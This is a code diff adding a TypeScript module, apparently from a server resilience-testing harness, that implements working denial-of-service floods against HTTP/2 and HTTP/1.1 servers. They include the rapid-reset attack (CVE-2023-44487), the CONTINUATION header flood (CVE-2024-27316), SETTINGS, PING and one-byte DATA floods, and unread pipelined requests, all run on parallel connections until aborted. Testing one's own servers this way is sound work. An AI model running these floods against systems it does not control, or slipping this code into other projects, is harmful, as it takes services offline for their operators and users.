@@ -1,0 +1,79 @@
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Attack, Target } from "./attack.ts";
+import {
+  connectTls,
+  flood,
+  fieldBlock,
+  frame,
+  frameFlag,
+  frameType,
+  RawHttp2,
+  requestFrame,
+} from "./raw-http2.ts";
+
+/** Frames of one batch, and connections of each kind. */
+const batch = 200;
+const connections = 4;
+
+/** What a flood consists of, from its first batch to its last. */
+type Flood = (turn: number) => Buffer[];
+
+function* numbers(turn: number): Generator<number> {
+  for (let i = 0; i < batch; i++) yield 2 * (turn * batch + i) + 1;
+}
+
+const floods: Readonly<Record<string, Flood>> = {
+  // CVE-2023-44487: requests that are taken back as soon as they are made.
+  resets: (turn) =>
+    [...numbers(turn)].flatMap((stream) => [
+      requestFrame(stream, "GET", "/v1/openapi.json", frameFlag.endHeaders | frameFlag.endStream),
+      frame(frameType.reset, 0, stream, Buffer.of(0, 0, 0, 8)),
+    ]),
+  // CVE-2024-27316: header fields without an end.
+  continuations: (turn) => [
+    ...(turn === 0 ? [requestFrame(1, "GET", "/", 0)] : []),
+    ...Array.from({ length: batch }, (_, i) =>
+      frame(frameType.continuation, 0, 1, fieldBlock([[`x-${turn}-${i}`, "x".repeat(100)]])),
+    ),
+  ],
+  settings: () => Array.from({ length: batch }, () => frame(frameType.settings, 0, 0)),
+  pings: () => Array.from({ length: batch }, () => frame(frameType.ping, 0, 0, Buffer.alloc(8))),
+  // A body in pieces of one byte, which the app does not read.
+  crumbs: (turn) => [
+    ...(turn === 0 ? [...numbers(0)].slice(0, 50).map((stream) => requestFrame(stream, "POST", "/")) : []),
+    ...[...numbers(0)].slice(0, 50).map((stream) => frame(frameType.data, 0, stream, Buffer.of(120))),
+  ],
+};
+
+/** Frames and requests that cost their sender little. */
+export const tcpFloods: Attack = {
+  name: "floods of frames, over TCP",
+  async run(target, signal) {
+    const kinds = Object.values(floods).flatMap((kind) => Array.from({ length: connections }, () => kind));
+    await Promise.all([
+      ...kinds.map(async (kind, i) => {
+        while (!signal.aborted) await send(target, kind, i % 2 === 0, signal);
+      }),
+      pipeline(target, signal),
+    ]);
+  },
+};
+
+/** @param isDeaf whether it reads none of the answers. */
+async function send(target: Target, kind: Flood, isDeaf: boolean, signal: AbortSignal): Promise<void> {
+  const client = await RawHttp2.open(target, isDeaf);
+  for (let turn = 0; !client.isClosed && !signal.aborted; turn++) await client.send(...kind(turn));
+  client.close();
+  await sleep(10);
+}
+
+/** Requests over HTTP/1.1, one behind the other, whose answers nobody reads. */
+async function pipeline(target: Target, signal: AbortSignal): Promise<void> {
+  const requests = "GET /v1/openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(batch);
+  while (!signal.aborted) {
+    const socket = await connectTls(target, "http/1.1");
+    while (!socket.destroyed && !signal.aborted) await flood(socket, requests);
+    socket.destroy();
+    await sleep(10);
+  }
+}
